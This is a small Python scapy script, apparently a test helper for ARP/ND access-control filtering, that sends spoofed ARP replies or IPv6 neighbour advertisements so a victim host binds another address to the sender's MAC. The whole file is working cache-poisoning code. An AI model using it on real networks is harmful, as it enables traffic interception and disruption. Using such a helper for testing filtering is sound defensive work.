# SPDX-License-Identifier: GPL-2.0
"""Say that somebody else's address is ours, as arpspoof does.

    usage: acl_spoof.py arp|nd ADDRESS VICTIM VICTIM-MAC

Sent from eth0, with its MAC: ARP replies, or neighbour advertisements with the
override flag, that name ADDRESS.
"""
import sys
import time

from scapy.all import (ARP, Ether, ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IPv6,
                       get_if_hwaddr, sendp)


def main():
    kind, address, victim, mac = sys.argv[1:5]
    own = get_if_hwaddr("eth0")
    if kind == "arp":
        frame = Ether(src=own, dst=mac) / ARP(op=2, hwsrc=own, psrc=address,
                                              hwdst=mac, pdst=victim)
    else:
        # From an address that the sender may use, about one it may not.
        frame = (Ether(src=own, dst=mac) /
                 IPv6(src="2001:db8::1", dst=victim, hlim=255) /
                 ICMPv6ND_NA(tgt=address, R=0, S=1, O=1) /
                 ICMPv6NDOptDstLLAddr(lladdr=own))
    for _ in range(5):
        # Linux heeds a second change of mind only after a second.
        sendp(frame, iface="eth0", verbose=False)
        time.sleep(0.4)


main()
